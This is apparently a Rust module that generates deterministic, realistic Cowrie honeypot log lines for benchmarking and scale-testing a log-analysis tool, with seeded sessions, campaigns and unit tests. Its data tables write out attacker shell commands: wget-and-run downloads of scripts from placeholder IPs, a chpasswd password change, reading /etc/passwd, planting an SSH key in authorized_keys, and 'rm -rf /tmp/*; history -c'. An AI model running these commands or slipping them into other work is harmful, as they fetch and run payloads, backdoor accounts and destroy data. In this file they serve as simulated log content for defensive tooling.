//! A deterministic generator of realistic Cowrie logs, for benchmarks and scale tests.
//!
//! The same `(events, seed)` always gives the same bytes (ChaCha8 is stable across
//! platforms and crate versions). Sessions follow Cowrie's real shape: connect, client
//! version and kex (SSH), failed logins, often a success, session params, commands (some
//! failing, some with quotes and backslashes), downloads and uploads, direct-tcpip abuse,
//! and closed; a few sessions are left open. Several sensors and protocols, Cowrie 1.x and
//! 2.x key styles, `duration` as float, string or `duration_ms`; one sensor writes Cowrie 3.x
//! (`v3.rs`): every event family 3.x logs, in 3.x field shapes.

mod v3;

use std::io::{self, Write};

use chrono::{DateTime, Duration, TimeZone, Utc};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Value};

const SENSORS: &[&str] = &["honeypot-a", "honeypot-b", "920497a79896", v3::SENSOR];
const USERS: &[&str] = &["root", "admin", "ubuntu", "test", "oracle", "pi", "user", "support", ""];
const PASSWORDS: &[&str] = &["123456", "password", "admin", "root", "1234", "raspberry", "qwerty", "P@ssw0rd", ""];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "echo \"root:Xy12\"|chpasswd|bash",
    "free -m | grep Mem | awk '{print $2 ,$3}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "echo -e \"\\x6F\\x6B\"",
    "cat /etc/passwd",
    "nproc",
    "rm -rf /tmp/* ; history -c",
];
const CLIENTS: &[&str] =
    &["SSH-2.0-libssh-0.6.3", "SSH-2.0-Go", "SSH-2.0-OpenSSH_7.4", "b'SSH-2.0-PUTTY'", "SSH-2.0-paramiko_2.7.1"];
const HASSH: &[&str] =
    &["b5752e36ba6c5979a575e43178908adf", "1616c6d18e845e7a01168a44591f7a35", "92674389fa1e47a27ddd8d9b63ecd42b"];
const URLS: &[&str] = &[
    "http://203.0.113.7/bins.sh",
    "http://198.51.100.23/x86",
    "https://example.net/a.sh",
    "http://192.0.2.9:8080/mips",
];

/// Recurring campaigns: one command script each, run from a small fixed set of sources on
/// many days (what a campaigns query should find).
const CAMPAIGNS: &[(&[&str], &[&str])] = &[
    (
        &["uname -s -v -n -r -m", "cd /tmp || cd /var/run; wget http://198.51.100.23/x86; chmod +x x86; ./x86"],
        &["45.9.20.11", "45.9.20.12", "45.9.20.13"],
    ),
    (
        &[
            "cat /proc/cpuinfo | grep name | head -n 1",
            "nproc",
            "echo 'ssh-rsa AAAAB3Nza mdrfckr' >> .ssh/authorized_keys",
        ],
        &["103.77.1.5", "103.77.1.9"],
    ),
];

/// Where generated time goes.
#[derive(Debug, Clone, Copy)]
pub struct Spread {
    pub start: DateTime<Utc>,
    /// Sessions are spread over this many days with a daily and weekly rhythm (busier in the
    /// evening UTC and at weekends); campaigns recur and some downloads fail.
    pub days: Option<u32>,
}

impl Default for Spread {
    fn default() -> Self {
        Self { start: Utc.with_ymd_and_hms(2025, 9, 22, 0, 0, 0).unwrap(), days: None }
    }
}

/// Writes `events` Cowrie JSON lines generated from `seed` to `out`, starting 2025-09-22 with
/// sessions back to back.
pub fn generate(events: u64, seed: u64, out: &mut dyn Write) -> io::Result<()> {
    generate_spread(events, seed, Spread::default(), out)
}

/// As `generate`, with the start and spread of time chosen.
pub fn generate_spread(events: u64, seed: u64, spread: Spread, out: &mut dyn Write) -> io::Result<()> {
    let mut g = Gen {
        rng: ChaCha8Rng::seed_from_u64(seed),
        t: spread.start,
        n: 0,
        limit: events,
        rhythm: spread.days.map(|d| Rhythm::new(spread.start, d.max(1))),
    };
    let mut out = io::BufWriter::with_capacity(1 << 16, out);
    while g.n < g.limit {
        g.session(&mut out)?;
    }
    out.flush()
}

struct Gen {
    rng: ChaCha8Rng,
    t: DateTime<Utc>,
    n: u64,
    limit: u64,
    rhythm: Option<Rhythm>,
}

/// An hourly intensity over the spread's days; a session starts at the time where the
/// cumulative intensity reaches the share of events written so far, so the file covers the
/// days exactly and busy hours hold more sessions.
struct Rhythm {
    start: DateTime<Utc>,
    cumulative: Vec<f64>,
}

impl Rhythm {
    fn new(start: DateTime<Utc>, days: u32) -> Self {
        use chrono::{Datelike, Timelike};
        let mut cumulative = Vec::with_capacity(days as usize * 24);
        let mut total = 0.0;
        for h in 0..days as i64 * 24 {
            let t = start + Duration::hours(h);
            let hour = t.hour() as f64;
            // Peak around 20:00 UTC, trough around 08:00; weekends half as busy again.
            let daily = 1.0 + 0.7 * ((hour - 14.0) / 24.0 * std::f64::consts::TAU).sin();
            let weekly = if t.weekday().number_from_monday() >= 6 { 1.5 } else { 1.0 };
            total += daily * weekly;
            cumulative.push(total);
        }
        for c in &mut cumulative {
            *c /= total;
        }
        Self { start, cumulative }
    }

    /// The time at which a share `p` (0..1) of the intensity has passed.
    fn at(&self, p: f64) -> DateTime<Utc> {
        let i = self.cumulative.partition_point(|&c| c < p).min(self.cumulative.len() - 1);
        let lo = if i == 0 { 0.0 } else { self.cumulative[i - 1] };
        let frac = ((p - lo) / (self.cumulative[i] - lo)).clamp(0.0, 1.0);
        self.start + Duration::seconds(i as i64 * 3600) + Duration::milliseconds((frac * 3_600_000.0) as i64)
    }
}

impl Gen {
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.rng.random_range(0..xs.len())]
    }

    /// A random SHA-256-looking hex digest.
    fn sha256(&mut self) -> String {
        (0..4).map(|_| format!("{:016x}", self.rng.random::<u64>())).collect()
    }

    fn tick(&mut self, max_ms: i64) -> DateTime<Utc> {
        self.t += Duration::microseconds(self.rng.random_range(1..max_ms * 1000));
        self.t
    }

    fn emit(&mut self, out: &mut dyn Write, mut v: Value, base: &Value, compact: bool) -> io::Result<()> {
        if self.n >= self.limit {
            return Ok(());
        }
        let obj = v.as_object_mut().expect("object");
        for (k, val) in base.as_object().expect("object") {
            obj.entry(k.clone()).or_insert(val.clone());
        }
        let ts = self.tick(400);
        obj.insert("timestamp".into(), json!(ts.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string()));
        let line = if compact { serde_json::to_string(&v)? } else { pretty_1x(&v) };
        out.write_all(line.as_bytes())?;
        out.write_all(b"\n")?;
        self.n += 1;
        Ok(())
    }

    fn command(&mut self, out: &mut dyn Write, c: &str, base: &Value, compact: bool) -> io::Result<()> {
        self.emit(
            out,
            json!({"eventid": "cowrie.command.input", "input": c, "message": format!("CMD: {c}")}),
            base,
            compact,
        )
    }

    /// Attackers come back: sources are drawn from a pool of 400, the first ones far more often.
    fn source_ip(&mut self) -> String {
        let k = (self.rng.random::<f64>().powi(3) * 400.0) as u32;
        if k % 50 == 7 {
            format!("2001:db8::{:x}", k + 1)
        } else {
            let h = k.wrapping_mul(2_654_435_761);
            format!("{}.{}.{}.{}", 1 + (h >> 24) % 223, (h >> 16) & 255, (h >> 8) & 255, 1 + (h & 255) % 254)
        }
    }

    fn session(&mut self, out: &mut dyn Write) -> io::Result<()> {
        if let Some(r) = &self.rhythm {
            let at = r.at(self.n as f64 / self.limit as f64);
            self.t = self.t.max(at);
        }
        let campaign = match self.rhythm {
            Some(_) if self.rng.random_ratio(1, 8) => Some(CAMPAIGNS[self.rng.random_range(0..CAMPAIGNS.len())]),
            _ => None,
        };
        let sensor = self.pick(SENSORS);
        if sensor == v3::SENSOR && campaign.is_none() {
            return self.session_v3(out);
        }
        let compact = sensor != "920497a79896"; // that sensor writes Cowrie 1.x style
        let sid = format!("{:012x}", self.rng.random::<u64>() & 0xffff_ffff_ffff);
        let ip = match campaign {
            Some((_, ips)) => self.pick(ips).to_string(),
            None => self.source_ip(),
        };
        let telnet = self.rng.random_ratio(1, 8);
        let base = json!({"session": sid, "src_ip": ip, "sensor": sensor});
        self.t += Duration::milliseconds(self.rng.random_range(0..3000));
        let start = self.t;
        let src_port: u16 = self.rng.random_range(1024..65535);
        self.emit(out, json!({"eventid": "cowrie.session.connect", "src_port": src_port,
            "dst_ip": "10.0.0.5", "dst_port": if telnet { 2223 } else { 2222 }, "protocol": if telnet { "telnet" } else { "ssh" },
            "message": format!("New connection: {ip} [session: {sid}]")}), &base, compact)?;
        if !telnet {
            let v = self.pick(CLIENTS);
            self.emit(out, json!({"eventid": "cowrie.client.version", "version": v, "message": format!("Remote SSH version: {v}")}), &base, compact)?;
            let h = self.pick(HASSH);
            self.emit(out, json!({"eventid": "cowrie.client.kex", "hassh": h, "hasshAlgorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none",
                "kexAlgs": ["curve25519-sha256", "diffie-hellman-group14-sha1"], "keyAlgs": ["ssh-rsa"], "encCS": ["aes128-ctr"],
                "macCS": ["hmac-sha2-256"], "compCS": ["none"], "langCS": []}), &base, compact)?;
        }
        if self.rng.random_ratio(1, 10) {
            // Open-proxy abuse: direct-tcpip requests, no login.
            let n = self.rng.random_range(1..6);
            for _ in 0..n {
                self.emit(out, json!({"eventid": "cowrie.direct-tcpip.request", "dst_ip": "mail.example.com", "dst_port": 25, "src_port": 5555}), &base, compact)?;
                self.emit(out, json!({"eventid": "cowrie.direct-tcpip.data", "dst_ip": "mail.example.com", "dst_port": 25, "data": "b'EHLO x\\r\\n'"}), &base, compact)?;
            }
        }
        let fails = self.rng.random_range(0..4);
        for _ in 0..fails {
            let (u, p) = (self.pick(USERS), self.pick(PASSWORDS));
            self.emit(
                out,
                json!({"eventid": "cowrie.login.failed", "username": u, "password": p,
                "message": format!("login attempt [{u}/{p}] failed")}),
                &base,
                compact,
            )?;
        }
        if campaign.is_some() || self.rng.random_ratio(3, 5) {
            let (u, p) = (self.pick(USERS), self.pick(PASSWORDS));
            self.emit(
                out,
                json!({"eventid": "cowrie.login.success", "username": u, "password": p,
                "message": format!("login attempt [{u}/{p}] succeeded")}),
                &base,
                compact,
            )?;
            self.emit(
                out,
                json!({"eventid": "cowrie.session.params", "arch": "linux-x64-lsb", "message": []}),
                &base,
                compact,
            )?;
            let cmds = match campaign {
                Some((script, _)) => script.len(),
                None => self.rng.random_range(1..9),
            };
            for i in 0..cmds {
                let c = if let Some((script, _)) = campaign {
                    script[i].to_string()
                } else if self.rng.random_ratio(3, 20) {
                    format!("echo {:08x}", self.rng.random::<u32>())
                } else {
                    self.pick(COMMANDS).to_string()
                };
                self.command(out, &c, &base, compact)?;
                if self.rng.random_ratio(1, 10) {
                    self.emit(out, json!({"eventid": "cowrie.command.failed", "input": c, "message": format!("Command not found: {c}")}), &base, compact)?;
                }
            }
            if self.rng.random_ratio(1, 10) {
                let url = self.pick(URLS);
                let sha = self.sha256();
                self.emit(
                    out,
                    json!({"eventid": "cowrie.session.file_download", "url": url, "shasum": sha,
                    "outfile": format!("var/lib/cowrie/downloads/{sha}"), "destfile": "", "duplicate": false}),
                    &base,
                    compact,
                )?;
            }
            if self.rhythm.is_some() && self.rng.random_ratio(1, 12) {
                // One command fetching a dead URL with both wget and curl: two failed
                // downloads in one session.
                let url =
                    format!("http://203.0.113.{}/t{}.sh", self.rng.random_range(1..40), self.rng.random_range(1..5));
                self.command(out, &format!("wget {url} || curl -O {url}"), &base, compact)?;
                for _ in 0..2 {
                    self.emit(out, json!({"eventid": "cowrie.session.file_download.failed", "url": url,
                        "error": "Connection refused", "message": format!("Attempt to download file(s) from URL ({url}) failed")}), &base, compact)?;
                }
            }
            if self.rng.random_ratio(1, 50) {
                let sha = self.sha256();
                self.emit(
                    out,
                    json!({"eventid": "cowrie.session.file_upload", "filename": "x.sh", "shasum": sha, "outfile": sha}),
                    &base,
                    compact,
                )?;
            }
        }
        if self.rng.random_ratio(19, 20) {
            let secs = (self.t - start).num_microseconds().unwrap_or(0) as f64 / 1e6 + 0.4;
            let dur = match self.rng.random_range(0..3) {
                0 => json!({"duration": secs}),
                1 => json!({"duration": format!("{secs:.1}")}),
                _ => json!({"duration_ms": (secs * 1000.0) as i64}),
            };
            let mut v = json!({"eventid": "cowrie.session.closed", "message": format!("Connection lost after {} seconds", secs as i64)});
            for (k, x) in dur.as_object().expect("object") {
                v[k] = x.clone();
            }
            self.emit(out, v, &base, compact)?;
        }
        Ok(())
    }
}

/// Cowrie 1.x (Python 2) separators: `", "` and `": "`.
fn pretty_1x(v: &Value) -> String {
    let obj = v.as_object().expect("object");
    let parts: Vec<String> = obj.iter().map(|(k, x)| format!("{}: {}", json!(k), x)).collect();
    format!("{{{}}}", parts.join(", "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        let run = |seed| {
            let mut v = Vec::new();
            generate(500, seed, &mut v).unwrap();
            v
        };
        assert_eq!(run(7), run(7));
        assert_ne!(run(7), run(8));
        assert_eq!(run(7).iter().filter(|&&b| b == b'\n').count(), 500);
    }

    #[test]
    fn every_generated_line_is_accepted() {
        let mut v = Vec::new();
        generate(2000, 1, &mut v).unwrap();
        for line in v.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
            crate::store::ingest::event::parse_line(line, 0).unwrap();
        }
    }

    #[test]
    fn a_spread_covers_its_days_with_a_rhythm() {
        use chrono::Timelike;
        let start = Utc.with_ymd_and_hms(2025, 9, 15, 0, 0, 0).unwrap();
        let mut v = Vec::new();
        generate_spread(20_000, 42, Spread { start, days: Some(7) }, &mut v).unwrap();
        let mut per_day = [0u32; 8];
        let mut per_hour = [0u32; 24];
        let mut failed = 0;
        for line in v.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
            let e: Value = serde_json::from_slice(line).unwrap();
            let ts: DateTime<Utc> = e["timestamp"].as_str().unwrap().parse().unwrap();
            let day = (ts - start).num_days();
            assert!((0..8).contains(&day), "{ts} outside the week");
            per_day[day as usize] += 1;
            per_hour[ts.hour() as usize] += 1;
            failed += (e["eventid"] == "cowrie.session.file_download.failed") as u32;
        }
        assert!(per_day[..7].iter().all(|&n| n > 1000), "every day has sessions: {per_day:?}");
        assert!(per_day[7] < 50, "nothing much past the last day: {per_day:?}");
        assert!(per_hour[20] > 2 * per_hour[8], "evenings are busier than mornings: {per_hour:?}");
        assert!(per_day[5] > per_day[2], "Saturday is busier than Wednesday: {per_day:?}");
        assert!(failed > 0);
    }
}
